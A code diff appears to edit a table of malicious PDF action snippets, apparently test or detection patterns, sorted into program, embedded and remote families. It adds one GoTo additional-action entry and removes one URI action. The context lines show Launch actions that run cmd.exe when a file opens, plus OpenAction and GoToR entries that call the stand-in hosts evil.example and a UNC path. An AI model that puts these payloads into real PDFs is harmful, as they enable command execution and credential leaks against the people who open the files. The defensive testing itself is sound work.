@@ -248,6 +248,7 @@ const pdfObject: Family = {
       "<< /Type /3D /OnInstantiate 6 0 R >>",
       "<< /S /Rendition /OP 0 >>",
       "<< /AA 3 0 R >>",
+      "<< /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>",
     ],
     program: ["<< /OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> >>", "<< /S /Launch /F (cmd.exe) >>"],
     embedded: [
@@ -262,7 +263,6 @@ const pdfObject: Family = {
       "<< /S /ImportData /F (a.fdf) >>",
     ],
     remote: [
-      "<< /AA << /O << /S /URI /URI (https://evil.example) >> >> >>",
       "<< /OpenAction << /S /URI /URI (https://evil.example) >> >>",
       "<< /OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D [0 /Fit] >> >>",
       "<< /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 3 0 R >> >>",
